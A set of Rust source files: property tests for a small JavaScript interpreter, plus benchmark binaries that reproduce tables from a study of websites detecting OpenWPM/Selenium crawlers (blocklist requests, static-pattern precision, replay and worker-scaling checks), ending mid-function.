        let src = format!("var x = {n}; x === x");
        let got = Interp::new().eval_script(&src, "prop").unwrap();
        prop_assert_eq!(got, Value::Bool(true));
    }

    /// typeof never throws regardless of declared/undeclared identifiers.
    #[test]
    fn typeof_total(name in "[a-z]{1,12}") {
        let got = Interp::new().eval_script(&format!("typeof {name}"), "prop");
        prop_assert!(got.is_ok());
    }
}
