//! Property-based tests for engine invariants.

use jsengine::{Interp, Value};
use proplite::{run_cases, Rng};

/// Evaluate a numeric expression in a fresh realm.
fn eval_num(src: &str) -> f64 {
    match Interp::new().eval_script(src, "prop").unwrap() {
        Value::Num(n) => n,
        other => panic!("expected number from {src:?}, got {other:?}"),
    }
}

/// Integer arithmetic in MiniJS matches Rust f64 arithmetic.
#[test]
fn addition_matches_f64() {
    run_cases(256, 0x15E1, |rng: &mut Rng| {
        let a = rng.i64_in(-1_000_000, 1_000_000);
        let b = rng.i64_in(-1_000_000, 1_000_000);
        let got = eval_num(&format!("({a}) + ({b})"));
        assert_eq!(got, (a + b) as f64);
    });
}

#[test]
fn multiplication_matches_f64() {
    run_cases(256, 0x15E2, |rng: &mut Rng| {
        let a = rng.i64_in(-10_000, 10_000);
        let b = rng.i64_in(-10_000, 10_000);
        let got = eval_num(&format!("({a}) * ({b})"));
        assert_eq!(got, (a * b) as f64);
    });
}

/// String literals round-trip through the lexer/parser/interpreter for
/// arbitrary alphanumeric content.
#[test]
fn string_literal_roundtrip() {
    run_cases(256, 0x15E3, |rng: &mut Rng| {
        let s = rng.string_of(
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 _.-",
            0,
            40,
        );
        let got = Interp::new().eval_script(&format!("'{s}'"), "prop").unwrap();
        assert_eq!(got.as_str().unwrap(), s.as_str());
    });
}

/// Property insertion order is observation order via
/// `Object.getOwnPropertyNames`, for any set of distinct keys.
#[test]
fn property_insertion_order_preserved() {
    run_cases(128, 0x15E4, |rng: &mut Rng| {
        let keys = rng.distinct_strings("abcdefghijklmnopqrstuvwxyz", 1, 8, 1, 9);
        let mut src = String::from("var o = {};\n");
        for k in &keys {
            src.push_str(&format!("o['{k}'] = 1;\n"));
        }
        src.push_str("Object.getOwnPropertyNames(o).join(',')");
        let got = Interp::new().eval_script(&src, "prop").unwrap();
        let expected = keys.join(",");
        assert_eq!(got.as_str().unwrap(), expected.as_str());
    });
}

/// `delete` then `in` is always false; re-adding restores it.
#[test]
fn delete_then_in_is_false() {
    run_cases(128, 0x15E5, |rng: &mut Rng| {
        let k = rng.string_of("abcdefghijklmnopqrstuvwxyz", 1, 10);
        let src = format!(
            "var o = {{}}; o['{k}'] = 1; delete o['{k}']; ('{k}' in o) ? 1 : 0"
        );
        assert_eq!(eval_num(&src), 0.0);
    });
}

/// Array push/length invariant.
#[test]
fn push_increments_length() {
    run_cases(64, 0x15E6, |rng: &mut Rng| {
        let n = rng.usize_in(0, 50);
        let mut src = String::from("var a = [];\n");
        for i in 0..n {
            src.push_str(&format!("a.push({i});\n"));
        }
        src.push_str("a.length");
        assert_eq!(eval_num(&src), n as f64);
    });
}

/// indexOf finds every element pushed at the position it was pushed.
#[test]
fn index_of_finds_unique_elements() {
    run_cases(32, 0x15E7, |rng: &mut Rng| {
        let vals = rng.distinct_i64(0, 1000, 1, 19);
        let list = vals.iter().map(|v| v.to_string()).collect::<Vec<_>>().join(",");
        for (i, v) in vals.iter().enumerate() {
            let src = format!("[{list}].indexOf({v})");
            assert_eq!(eval_num(&src), i as f64);
        }
    });
}

/// JSON.stringify always produces output containing every string value.
#[test]
fn json_stringify_contains_values() {
    run_cases(128, 0x15E8, |rng: &mut Rng| {
        let s = rng.string_of("abcdefghijklmnopqrstuvwxyz", 1, 10);
        let got = Interp::new()
            .eval_script(&format!("JSON.stringify({{ k: '{s}' }})"), "prop")
            .unwrap();
        assert!(got.as_str().unwrap().contains(&s));
    });
}

/// Strict equality is reflexive for numbers (except NaN, excluded).
#[test]
fn strict_eq_reflexive() {
    run_cases(256, 0x15E9, |rng: &mut Rng| {
        let n = rng.f64_in(-1e9, 1e9);
        let src = format!("var x = {n}; x === x");
        let got = Interp::new().eval_script(&src, "prop").unwrap();
        assert_eq!(got, Value::Bool(true));
    });
}

/// typeof never throws regardless of declared/undeclared identifiers.
#[test]
fn typeof_total() {
    run_cases(256, 0x15EA, |rng: &mut Rng| {
        let name = rng.string_of("abcdefghijklmnopqrstuvwxyz", 1, 12);
        let got = Interp::new().eval_script(&format!("typeof {name}"), "prop");
        assert!(got.is_ok());
    });
}
