//! Compatibility shims kept through the opaque-handle redesign.
//!
//! [`jsengine::CompiledScript`] used to expose its AST as `program()`;
//! the handle is now opaque (`ast()` for the tree oracle, `chunk()` for
//! the VM) and `program()` is deprecated. The workspace builds with
//! `#![deny(deprecated)]`, so this file is the one place still calling
//! it — proving the shim keeps working for downstream embedders until
//! it is removed.

#[test]
fn deprecated_program_accessor_still_works() {
    let cs = jsengine::compile("1 + 2", "compat.js").expect("compiles");
    #[allow(deprecated)]
    let program = cs.program();
    // Same artifact behind both names.
    assert!(std::sync::Arc::ptr_eq(program, cs.ast()));
}
