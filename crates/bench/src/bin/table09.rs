//! Table 9 — HTTP requests to ad/tracker resources (EasyList/EasyPrivacy).

#![deny(deprecated)]

use gullible::report::{thousands, TextTable};
use gullible::run_compare;
use stats::descriptive::{fmt_pct, pct_change};

fn main() {
    bench::banner("Table 9: ad/tracker requests, WPM vs WPM_hide");
    let report = run_compare(bench::compare_config());
    let mut table = TextTable::new("Table 9 — requests matching the blocklists");
    table.header(&["run", "EasyList WPM", "EasyList diff", "EasyPrivacy WPM", "EasyPrivacy diff"]);
    for (i, (wpm, hide)) in report.runs.iter().enumerate() {
        table.row(&[
            format!("r{}", i + 1),
            thousands(wpm.easylist_total()),
            fmt_pct(pct_change(wpm.easylist_total() as f64, hide.easylist_total() as f64)),
            thousands(wpm.easyprivacy_total()),
            fmt_pct(pct_change(wpm.easyprivacy_total() as f64, hide.easyprivacy_total() as f64)),
        ]);
    }
    println!("{}", table.render());
    for i in 0..report.runs.len() {
        if let Some(w) = report.wilcoxon_trackers(i) {
            println!(
                "r{}: Wilcoxon signed-rank z = {:.2}, p = {:.2e} ({}significant at 95%)",
                i + 1,
                w.z,
                w.p_value,
                if w.significant_at_95() { "" } else { "not " }
            );
        }
    }
    println!("paper: EasyList diffs +1.64% / +5.64% / +5.81%; p < 0.0001");
    bench::finish("table09", None);
}
