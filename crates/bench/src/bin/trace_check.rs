//! Validate a `GULLIBLE_TRACE` journal: parse every JSONL line, check the
//! schema (required `t`/`scope`/`ev` keys), per-scope clock monotonicity
//! and span open/close balance. With `--forensic`, validate a
//! flight-recorder dump file (`GULLIBLE_FORENSICS` output) instead: every
//! dump header must carry its trigger, in-flight phase and drop
//! accounting, and its ring lines must follow contiguously in sequence
//! order. CI runs both gates; the binary exits non-zero on the first
//! violation.
//!
//! ```text
//! cargo run --release -p bench --bin trace_check -- /tmp/trace.jsonl
//! cargo run --release -p bench --bin trace_check -- --forensic dumps.jsonl
//! ```

#![deny(deprecated)]

use gullible::obs::validate::{validate_forensic, validate_journal};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let forensic = args.iter().any(|a| a == "--forensic");
    let path = match args.iter().find(|a| !a.starts_with("--")) {
        Some(p) => p.clone(),
        None => {
            eprintln!("usage: trace_check [--forensic] <file.jsonl>");
            std::process::exit(2);
        }
    };
    let contents = match std::fs::read_to_string(&path) {
        Ok(c) => c,
        Err(e) => {
            eprintln!("error: {path}: {e}");
            std::process::exit(2);
        }
    };
    if forensic {
        match validate_forensic(&contents) {
            Ok(summary) => {
                let mut by_trigger: Vec<(String, usize)> = Vec::new();
                for (trigger, _) in &summary.triggers {
                    match by_trigger.iter_mut().find(|(t, _)| t == trigger) {
                        Some((_, n)) => *n += 1,
                        None => by_trigger.push((trigger.clone(), 1)),
                    }
                }
                let triggers = by_trigger
                    .iter()
                    .map(|(t, n)| format!("{t}×{n}"))
                    .collect::<Vec<_>>()
                    .join(", ");
                println!(
                    "{path}: ok — {} forensic dump(s), {} ring event(s) ({triggers})",
                    summary.dumps, summary.ring_events
                );
            }
            Err(e) => {
                eprintln!("{path}: INVALID — {e}");
                std::process::exit(1);
            }
        }
        return;
    }
    match validate_journal(&contents) {
        Ok(summary) => {
            println!(
                "{path}: ok — {} lines, {} scopes, {} spans (all balanced)",
                summary.lines, summary.scopes, summary.spans
            );
        }
        Err(e) => {
            eprintln!("{path}: INVALID — {e}");
            std::process::exit(1);
        }
    }
}
