//! Validate a `GULLIBLE_TRACE` journal: parse every JSONL line, check the
//! schema (required `t`/`scope`/`ev` keys), per-scope clock monotonicity
//! and span open/close balance. CI runs this against the journal written
//! by a small `table05` run; it exits non-zero on the first violation.
//!
//! ```text
//! cargo run --release -p bench --bin trace_check -- /tmp/trace.jsonl
//! ```

#![deny(deprecated)]

use gullible::obs::validate::validate_journal;

fn main() {
    let path = match std::env::args().nth(1) {
        Some(p) => p,
        None => {
            eprintln!("usage: trace_check <journal.jsonl>");
            std::process::exit(2);
        }
    };
    let contents = match std::fs::read_to_string(&path) {
        Ok(c) => c,
        Err(e) => {
            eprintln!("error: {path}: {e}");
            std::process::exit(2);
        }
    };
    match validate_journal(&contents) {
        Ok(summary) => {
            println!(
                "{path}: ok — {} lines, {} scopes, {} spans (all balanced)",
                summary.lines, summary.scopes, summary.spans
            );
        }
        Err(e) => {
            eprintln!("{path}: INVALID — {e}");
            std::process::exit(1);
        }
    }
}
