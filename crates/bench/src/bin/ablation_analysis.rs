//! Analysis-method ablation: static-only vs dynamic-only vs combined, with
//! and without honey properties and interaction — quantifying the design
//! choices behind Sec. 4.1 of the paper on the same population.

#![deny(deprecated)]

use gullible::report::{thousands, TextTable};
use gullible::scan::{Scan, ScanConfig};

fn main() {
    bench::banner("ablation: analysis methods");
    let n = bench::n_sites().min(10_000); // ablations run several scans
    let base = ScanConfig { n_sites: n, seed: bench::seed(), workers: bench::workers(), ..ScanConfig::new(n, bench::seed()) };

    let passive = Scan::new(base).run().expect("scan");
    let interactive = Scan::new(ScanConfig { simulate_interaction: true, ..base }).run().expect("scan");

    let mut table = TextTable::new("analysis-method ablation (detector sites found)");
    table.header(&["pipeline", "sites", "vs combined"]);
    let combined = passive.count(|s| s.site.union_true());
    let rows = [
        ("static only", passive.count(|s| s.site.static_true)),
        ("dynamic only", passive.count(|s| s.site.dynamic_true)),
        ("combined (the paper's choice)", combined),
        ("dynamic w/o honey filter (incl. iterator FPs)", passive.count(|s| s.site.dynamic_identified)),
        ("combined + interaction (HLISA-style)", interactive.count(|s| s.site.union_true())),
        ("dynamic + interaction", interactive.count(|s| s.site.dynamic_true)),
    ];
    for (label, count) in rows {
        table.row(&[
            label.to_string(),
            thousands(count as u64),
            format!("{:+.1}%", (count as f64 / combined as f64 - 1.0) * 100.0),
        ]);
    }
    println!("{}", table.render());
    println!(
        "takeaways (mirroring the paper): neither method subsumes the other; the honey filter\n\
         removes iterator false positives from the dynamic pipeline; simulated interaction\n\
         recovers hover-gated detectors that are otherwise static-only."
    );
    println!("passive   {}", gullible::report::coverage_note(&passive.completion));
    println!("interactive {}", gullible::report::coverage_note(&interactive.completion));
    bench::finish("ablation_analysis", Some(&interactive.coverage_line()));
}
