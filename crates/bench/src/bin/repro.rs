//! Umbrella experiment runner: regenerates every table and figure from one
//! scan and one comparison (so the expensive pipelines run once), printing
//! everything in paper order. This is what produces the numbers recorded in
//! EXPERIMENTS.md:
//!
//! ```text
//! GULLIBLE_SITES=100000 cargo run --release -p bench --bin repro
//! ```
//!
//! Set `GULLIBLE_CHECKPOINT=/path/to/file` to journal per-site scan results;
//! an interrupted run resumes from the checkpoint and produces aggregates
//! identical to an uninterrupted one. `GULLIBLE_FAULT_*` injects crawl
//! faults (see `bench` crate docs); the coverage line under the scan tables
//! reports the resulting completion rate.

#![deny(deprecated)]

use gullible::report::{pct, thousands};
use gullible::{run_compare, Client, Scan};
use netsim::{CookieParty, ResourceType};
use stats::descriptive::{fmt_pct, pct_change};

fn main() {
    bench::banner("full reproduction run");
    let t0 = std::time::Instant::now();

    // ---------- scan-based experiments ----------
    println!("--- running the Tranco scan (Sec. 4) ---");
    let scan = {
        let mut builder = Scan::new(bench::scan_config());
        if let Some(path) = bench::env::checkpoint() {
            builder = builder.checkpoint(&path);
        }
        builder.run().unwrap_or_else(|e| {
            eprintln!("error: checkpoint file: {e}");
            std::process::exit(2);
        })
    };
    println!("scan finished in {:.1?}", t0.elapsed());
    println!("{}\n", scan.coverage_line());

    let [(si, st), (di, dt), (ui, ut)] = scan.table5();
    println!("[Table 5] sites with Selenium detectors (front + subpages)");
    println!("  identified: static {} dynamic {} union {}", thousands(si as u64), thousands(di as u64), thousands(ui as u64));
    println!("  w/o FPs:    static {} dynamic {} union {}", thousands(st as u64), thousands(dt as u64), thousands(ut as u64));
    println!("  paper:      32,694/19,139/38,264 and 15,838/16,762/18,714 at 100K");
    let (scripts_total, scripts_unique) = scan.script_stats();
    println!(
        "  scripts: {} collected, {} unique (paper corpus: 1,535,306 unique)\n",
        thousands(scripts_total),
        thousands(scripts_unique)
    );

    println!("[Table 6] OpenWPM-specific probes");
    for (provider, props) in scan.table6() {
        println!("  {provider}: {props:?}");
    }
    println!("  paper: cheqzone 331, googlesyndication 14, google 9, adzouk1tag 2\n");

    println!("[Table 7] top third-party detector hosts");
    let t7 = scan.table7();
    let t7_total: u32 = t7.iter().map(|(_, n)| n).sum();
    for (domain, count) in t7.iter().take(10) {
        println!("  {domain:<24} {:>6}  {:.2}%", thousands(*count as u64), *count as f64 * 100.0 / t7_total as f64);
    }
    let (fp_incl, tp_incl) = scan.inclusion_totals();
    println!("  inclusions: first-party {} third-party {} (paper: 3,867 / 21,325)\n", thousands(fp_incl as u64), thousands(tp_incl as u64));

    let front_u = scan.count(|s| s.front.union_true());
    println!("[Table 11/Fig 3] front pages: static {} dynamic {} union {} ({} of sites)",
        thousands(scan.count(|s| s.front.static_true) as u64),
        thousands(scan.count(|s| s.front.dynamic_true) as u64),
        thousands(front_u as u64),
        pct(front_u as u64, scan.n_sites as u64));
    println!("  incl. subpages: union {} ({}); paper 13,989 (14.0%) -> 18,714 (18.7%)\n",
        thousands(ut as u64), pct(ut as u64, scan.n_sites as u64));

    println!("[Fig 4] front-page detectors per rank decile (static / dynamic)");
    let bucket = (scan.n_sites / 10).max(1);
    for (i, b) in scan.rank_buckets(bucket).iter().enumerate() {
        println!("  decile {i}: {:>6} / {:>6}", b[0], b[1]);
    }
    println!();

    println!("[Fig 5] detector-site categories (top shares)");
    let (first_cats, third_cats) = scan.category_tallies();
    let tot3: u32 = third_cats.values().sum();
    let tot1: u32 = first_cats.values().sum();
    let mut cats3: Vec<_> = third_cats.iter().collect();
    cats3.sort_by(|a, b| b.1.cmp(a.1));
    for (c, n) in cats3.iter().take(5) {
        println!("  third-party {c:<14} {:.1}%", **n as f64 * 100.0 / tot3 as f64);
    }
    let mut cats1: Vec<_> = first_cats.iter().collect();
    cats1.sort_by(|a, b| b.1.cmp(a.1));
    for (c, n) in cats1.iter().take(5) {
        println!("  first-party {c:<14} {:.1}%", **n as f64 * 100.0 / tot1 as f64);
    }
    println!();

    println!("[Table 12] first-party origin clusters");
    for (origin, count) in scan.table12() {
        println!("  {origin:<12} {}", thousands(count as u64));
    }
    println!("  paper: Akamai 1,004 Incapsula 998 Unknown 659 Cloudflare 486 PerimeterX 134");
    println!("  all scan tables above: {}\n", gullible::report::coverage_note(&scan.completion));

    // ---------- comparison-based experiments ----------
    println!("--- running the WPM vs WPM_hide comparison (Sec. 6.3) ---");
    let t1 = std::time::Instant::now();
    let cmp = run_compare(bench::compare_config());
    println!("comparison finished in {:.1?} over {} sites × {} runs\n", t1.elapsed(), cmp.compare_set.len(), cmp.runs.len());

    println!("[Table 8] total requests per run (WPM vs WPM_hide)");
    for (i, (w, h)) in cmp.runs.iter().enumerate() {
        println!("  r{}: {} vs {} ({})", i + 1, thousands(w.total_requests()), thousands(h.total_requests()),
            fmt_pct(pct_change(w.total_requests() as f64, h.total_requests() as f64)));
    }
    let (w1, h1) = &cmp.runs[0];
    println!("  per type (r1):");
    for rt in ResourceType::all() {
        let (a, b) = (w1.requests_of(*rt), h1.requests_of(*rt));
        if a + b > 0 {
            println!("    {:<16} {:>8} {:>8}  {}", rt.as_str(), thousands(a), thousands(b), fmt_pct(pct_change(a as f64, b as f64)));
        }
    }
    println!("  csp blocked sites (WPM): {} of {} (paper: 113 of 1,487)\n", w1.blocked_sites(), cmp.compare_set.len());

    println!("[Table 9] blocklist-matched requests");
    for (i, (w, h)) in cmp.runs.iter().enumerate() {
        println!("  r{}: EasyList {} ({}) EasyPrivacy {} ({})", i + 1,
            thousands(w.easylist_total()),
            fmt_pct(pct_change(w.easylist_total() as f64, h.easylist_total() as f64)),
            thousands(w.easyprivacy_total()),
            fmt_pct(pct_change(w.easyprivacy_total() as f64, h.easyprivacy_total() as f64)));
        if let Some(wx) = cmp.wilcoxon_trackers(i) {
            println!("      Wilcoxon z = {:.2}, p = {:.2e}", wx.z, wx.p_value);
        }
    }
    println!("  paper: +1.64/+5.64/+5.81% (EasyList), p < 0.0001\n");

    println!("[Table 10] cookies");
    for i in 0..cmp.runs.len() {
        let (w, h) = &cmp.runs[i];
        let (w1c, h1c) = (w.cookies_of(CookieParty::First), h.cookies_of(CookieParty::First));
        let (w3c, h3c) = (w.cookies_of(CookieParty::Third), h.cookies_of(CookieParty::Third));
        let (wt, ht) = (cmp.tracking_cookies(Client::Wpm, i), cmp.tracking_cookies(Client::WpmHide, i));
        println!("  r{}: 1st {} ({}) 3rd {} ({}) tracking {} ({})", i + 1,
            thousands(w1c), fmt_pct(pct_change(w1c as f64, h1c as f64)),
            thousands(w3c), fmt_pct(pct_change(w3c as f64, h3c as f64)),
            thousands(wt), fmt_pct(pct_change(wt as f64, ht as f64)));
    }
    println!("  paper: 1st +3.33/+3.06/+4.23%  3rd +5.05/+7.12/+8.11%  tracking +41.70/+52.13/+59.65%\n");

    println!("[Fig 6] API-call coverage (WPM / WPM_hide, r1) — lowest-coverage symbols");
    let cov = cmp.coverage(0);
    let mut rows: Vec<(&String, f64, u64, u64)> = cov
        .iter()
        .filter(|(_, (_, h))| *h > 0)
        .map(|(s, (w, h))| (s, *w as f64 * 100.0 / *h as f64, *w, *h))
        .collect();
    rows.sort_by(|a, b| a.1.partial_cmp(&b.1).unwrap());
    for (sym, covg, w, h) in rows.iter().take(12) {
        println!("  {sym:<40} {covg:>5.1}%  ({w}/{h})");
    }
    println!("\ntotal wall time {:.1?}", t0.elapsed());
    bench::finish("repro", Some(&scan.coverage_line()));
}
