//! Replay a recorded crawl bundle through the whole measurement pipeline
//! and verify it reproduces the recording run — per-site records, Table 5
//! and (with `GULLIBLE_STATS=1`) the telemetry digest, byte for byte.
//!
//! Usage: `archive_replay [BUNDLE_DIR]` (or `GULLIBLE_BUNDLE`). Exits
//! non-zero on any divergence, so CI can gate on reproducibility.

#![deny(deprecated)]

use gullible::{obs, ReplayBundle, Scan};

fn main() {
    bench::banner("Archive: replay crawl bundle");
    let dir = bench::bundle_dir();
    let bundle = match ReplayBundle::open(&dir) {
        Ok(b) => b,
        Err(e) => {
            eprintln!("error: cannot open bundle: {e}");
            std::process::exit(2);
        }
    };
    println!(
        "bundle: {} ({} sites, recorded table5 union {}/{})",
        dir.display(),
        bundle.n_sites(),
        bundle.commit.table5[2].0,
        bundle.commit.table5[2].1,
    );
    let report = match Scan::new(bench::scan_config()).replay(&dir).run() {
        Ok(r) => r,
        Err(e) => {
            eprintln!("error: replay failed: {e}");
            std::process::exit(2);
        }
    };
    let stats = report.replay.expect("replay run reports replay stats");
    let mut failures = Vec::new();
    if stats.divergences > 0 {
        failures.push(format!("{} of {} sites diverged from the record", stats.divergences, stats.sites));
    }
    if report.table5() != bundle.commit.table5 {
        failures.push(format!(
            "table5 mismatch: replayed {:?}, recorded {:?}",
            report.table5(),
            bundle.commit.table5
        ));
    }
    if obs::stats_enabled() && bundle.commit.stats_enabled {
        let digest = obs::registry().snapshot().digest();
        if digest == bundle.commit.telemetry_digest {
            println!("telemetry digest: {digest:016x} (matches record)");
        } else {
            failures.push(format!(
                "telemetry digest mismatch: replayed {digest:016x}, recorded {:016x}",
                bundle.commit.telemetry_digest
            ));
        }
    } else {
        println!("telemetry digest: not compared (stats off in record or replay)");
    }
    println!("{}", gullible::report::coverage_note(&report.completion));
    if failures.is_empty() {
        println!("replay verdict: REPRODUCED ({} sites, 0 divergences)", stats.sites);
    } else {
        for f in &failures {
            eprintln!("replay divergence: {f}");
        }
        println!("replay verdict: DIVERGED");
    }
    bench::finish("archive_replay", Some(&report.coverage_line()));
    if !failures.is_empty() {
        std::process::exit(1);
    }
}
