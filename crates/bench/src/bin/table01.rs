//! Table 1 — measurement characteristics of 72 OpenWPM-based studies.

#![deny(deprecated)]

use gullible::literature::{studies, tally};
use gullible::report::TextTable;

fn main() {
    bench::banner("Table 1: use of OpenWPM in previous studies");
    let t = tally(&studies());
    let mut table = TextTable::new("Table 1 — measurement characteristics (72 studies)");
    table.header(&["characteristic", "count", "paper"]);
    let rows: &[(&str, usize, &str)] = &[
        ("measures: HTTP traffic", t.http, "56"),
        ("measures: cookies", t.cookies, "35"),
        ("measures: JavaScript", t.js, "22"),
        ("measures: other", t.other, "6"),
        ("mode: unspecified", t.mode_unspecified, "59 (dual-mode study counted once here)"),
        ("mode: headless", t.mode_headless, "7"),
        ("mode: native", t.mode_native, "3"),
        ("mode: Xvfb", t.mode_xvfb, "2"),
        ("mode: Docker", t.mode_docker, "2"),
        ("deployed in VM/cloud", t.uses_vm, "16"),
        ("interaction: none", t.no_interaction, "55"),
        ("interaction: clicking", t.clicking, "11"),
        ("interaction: scrolling", t.scrolling, "8"),
        ("interaction: typing", t.typing, "5"),
        ("subpages: visited", t.subpages_visited, "19"),
        ("subpages: not visited", t.subpages_not_visited, "53"),
        ("bot detection: ignored", t.bd_ignored, "55"),
        ("bot detection: discussed", t.bd_discussed, "17"),
        ("uses anti-detection features", t.uses_anti_bot, "12"),
    ];
    for (label, measured, paper) in rows {
        table.row(&[label.to_string(), measured.to_string(), paper.to_string()]);
    }
    println!("{}", table.render());
    bench::finish("table01", None);
}
