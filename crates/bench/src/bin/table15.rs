//! Table 15 / Appx. E — the 72 surveyed OpenWPM studies.
//!
//! Per-study flags are reconstructed to match Table 1's aggregates exactly
//! (the appendix table is not fully machine-readable); identities are the
//! paper's.

#![deny(deprecated)]

use gullible::literature::{studies, StudyMode};
use gullible::report::TextTable;

fn main() {
    bench::banner("Table 15: OpenWPM in literature");
    let mut table = TextTable::new("Table 15 — surveyed studies (flags reconstructed)");
    table.header(&[
        "year", "author", "venue", "mode", "VM", "ck", "http", "js", "scr", "clk", "typ",
        "sub", "anti", "BD",
    ]);
    let tick = |b: bool| if b { "x" } else { "" }.to_string();
    for s in studies() {
        let mode = match s.mode {
            StudyMode::Unspecified => "u",
            StudyMode::Native => "n",
            StudyMode::Headless => "h",
            StudyMode::Xvfb => "x",
            StudyMode::Docker => "d",
        };
        table.row(&[
            s.year.to_string(),
            s.first_author.to_string(),
            s.venue.to_string(),
            mode.to_string(),
            tick(s.uses_vm),
            tick(s.measures_cookies),
            tick(s.measures_http),
            tick(s.measures_js),
            tick(s.scrolling),
            tick(s.clicking),
            tick(s.typing),
            tick(s.visits_subpages),
            tick(s.uses_anti_bot),
            tick(s.discusses_bot_detection),
        ]);
    }
    println!("{}", table.render());
    bench::finish("table15", None);
}
