//! Table 3 — screen properties for the OpenWPM run-mode configurations.

#![deny(deprecated)]

use browser::{FingerprintProfile, Os, RunMode};
use gullible::report::TextTable;

fn main() {
    bench::banner("Table 3: screen geometry per configuration");
    let mut table = TextTable::new("Table 3 — screen properties");
    table.header(&["OS", "Mode", "Resolution", "Window", "X", "Y", "Offset (x,y)"]);
    let rows: &[(Os, RunMode)] = &[
        (Os::MacOs1015, RunMode::Regular),
        (Os::MacOs1015, RunMode::Headless),
        (Os::Ubuntu1804, RunMode::Regular),
        (Os::Ubuntu1804, RunMode::Headless),
        (Os::Ubuntu1804, RunMode::Xvfb),
        (Os::Ubuntu1804, RunMode::Docker),
    ];
    for (os, mode) in rows {
        let p = FingerprintProfile::openwpm(*os, *mode);
        let g = p.geometry;
        table.row(&[
            os.name().to_string(),
            mode.name().to_string(),
            format!("{} x {}", g.screen_width, g.screen_height),
            format!("{} x {}", g.window_width, g.window_height),
            g.screen_x.to_string(),
            g.screen_y.to_string(),
            format!("{}, {}", g.instance_offset.0, g.instance_offset.1),
        ]);
    }
    println!("{}", table.render());
    println!("paper Table 3 values are reproduced verbatim by the profile model.");
    bench::finish("table03", None);
}
