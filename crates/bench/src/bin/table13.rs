//! Table 13 / Appx. B — static-analysis pattern evaluation.

#![deny(deprecated)]

use detect::corpus::{self, Technique};
use detect::static_analysis::{pattern_matches, preprocess, StaticPattern};
use gullible::report::TextTable;

fn main() {
    bench::banner("Table 13: patterns evaluated in static analysis");
    // Evaluation corpus: true detectors in every statically-visible tier,
    // plus benign scripts mentioning 'webdriver'.
    let detectors = [
        corpus::selenium_detector(Technique::Plain, "https://bd.test/v"),
        corpus::selenium_detector(Technique::Indexed, "https://bd.test/v"),
        corpus::selenium_detector(Technique::HexEscaped, "https://bd.test/v"),
        corpus::openwpm_detector(&["jsInstruments"], Technique::Plain, "https://cheqzone.com/v"),
        corpus::openwpm_detector(
            &["getInstrumentJS", "instrumentFingerprintingApis"],
            Technique::Plain,
            "https://x.test/v",
        ),
    ];
    let benign = [corpus::benign_webdriver_mention()];
    let mut table = TextTable::new("Table 13 — pattern precision over the evaluation corpus");
    table.header(&["pattern", "detector hits", "benign hits (FPs)", "paper: FP-prone"]);
    for pat in StaticPattern::all() {
        let hits = detectors.iter().filter(|s| pattern_matches(*pat, &preprocess(s))).count();
        let fps = benign.iter().filter(|s| pattern_matches(*pat, &preprocess(s))).count();
        table.row(&[
            pat.name().to_string(),
            hits.to_string(),
            fps.to_string(),
            if pat.fp_prone() { "yes" } else { "-" }.to_string(),
        ]);
    }
    println!("{}", table.render());
    println!(
        "paper: the bare and undelimited 'webdriver' patterns produce false positives; the \
         navigator-anchored forms and the OpenWPM property names do not."
    );
    bench::finish("table13", None);
}
