//! `scaling`: sweep worker counts over one fixed-seed scan and prove the
//! work-stealing scheduler scales without changing a single result byte.
//!
//! For each worker count the whole pipeline runs from scratch (telemetry
//! reset in between), and three fingerprints are captured: the telemetry
//! digest, Table 5, and an FNV fingerprint of the per-site records +
//! crawl history. All three must be identical across the sweep — worker
//! count may only change how fast the answer arrives, never the answer —
//! and the binary exits non-zero on any mismatch, which is how CI gates
//! the scheduler.
//!
//! Output: a human table (visits/sec, speedup, p50/p99 visit latency,
//! steal counts) plus `BENCH_scaling.json` with every number, written to
//! the working directory and echoed on stdout.
//!
//! ```text
//! cargo run --release -p bench --bin scaling            # 2K sites, workers 1/2/4/8
//! cargo run --release -p bench --bin scaling -- --smoke # 200 sites, workers 1/4 (CI)
//! ```

#![deny(deprecated)]

use gullible::obs;
use gullible::scan::{Scan, ScanConfig};

struct SweepPoint {
    workers: usize,
    completed: usize,
    elapsed_ms: f64,
    visits_per_sec: f64,
    p50_visit_us: u64,
    p99_visit_us: u64,
    steals: u64,
    chunks: u64,
    idle_spins: u64,
    digest: u64,
    table5: String,
    records_fp: u64,
}

fn main() {
    let smoke = std::env::args().any(|a| a == "--smoke");
    let sites: u32 = if smoke {
        200
    } else {
        std::env::var("GULLIBLE_SITES").ok().and_then(|v| v.parse().ok()).unwrap_or(2_000)
    };
    let worker_counts: &[usize] = if smoke { &[1, 4] } else { &[1, 2, 4, 8] };
    let seed = bench::seed();

    bench::banner(&format!(
        "scaling sweep: {sites} sites, workers {worker_counts:?}{}",
        if smoke { " (smoke)" } else { "" }
    ));

    let mut points: Vec<SweepPoint> = Vec::new();
    for &workers in worker_counts {
        // Fresh telemetry per point; the sweep needs stats regardless of
        // GULLIBLE_STATS, for the digest and the latency histogram.
        obs::reset();
        obs::set_stats(true);

        let cfg = ScanConfig { workers, ..ScanConfig::new(sites, seed) };
        let t0 = std::time::Instant::now();
        let report = Scan::new(cfg).run().expect("scan");
        let elapsed = t0.elapsed();

        let snap = obs::registry().snapshot();
        let hist = snap.histograms.get("sched.visit_wall_us").cloned().unwrap_or_default();
        let completed = report.completion.completed;
        let mut fp = format!("{:?}", report.table5());
        let table5 = fp.clone();
        fp.push_str(&format!("{:?}{:?}", report.sites, report.history));
        points.push(SweepPoint {
            workers,
            completed,
            elapsed_ms: elapsed.as_secs_f64() * 1e3,
            visits_per_sec: completed as f64 / elapsed.as_secs_f64(),
            p50_visit_us: hist.quantile(0.50),
            p99_visit_us: hist.quantile(0.99),
            steals: snap.counter("sched.steal"),
            chunks: snap.counter("sched.chunk.claimed"),
            idle_spins: snap.counter("sched.idle_spins"),
            digest: snap.digest(),
            table5,
            records_fp: obs::fnv1a(fp.as_bytes()),
        });
        let p = points.last().unwrap();
        println!(
            "workers {workers}: {completed} visits in {:.1} ms ({:.0} visits/s), {} steals",
            p.elapsed_ms, p.visits_per_sec, p.steals
        );
    }

    // The invariant this binary exists to enforce.
    let base = &points[0];
    let mut mismatches = 0;
    for p in &points[1..] {
        for (what, ours, theirs) in [
            ("telemetry digest", format!("{:016x}", base.digest), format!("{:016x}", p.digest)),
            ("Table 5", base.table5.clone(), p.table5.clone()),
            ("records", format!("{:016x}", base.records_fp), format!("{:016x}", p.records_fp)),
        ] {
            if ours != theirs {
                eprintln!(
                    "MISMATCH: {what} differs between {} and {} workers: {ours} vs {theirs}",
                    base.workers, p.workers
